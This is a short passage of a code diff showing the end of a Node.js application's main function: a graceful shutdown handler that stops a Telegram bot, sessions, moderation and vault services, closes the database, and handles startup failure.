+    if (telegram) telegram.stop();
+    await sessions.stopAll();
+    moderation.stop();
+    if (vault) await vault.stop();
+    await sequelize.close();
+    process.exit(0);
+  };
+  process.once('SIGINT', shutdown);
+  process.once('SIGTERM', shutdown);
+}
+
+main().catch((err) => {
+  logger.fatal({ err }, 'Failed to start');
+  process.exit(1);
+});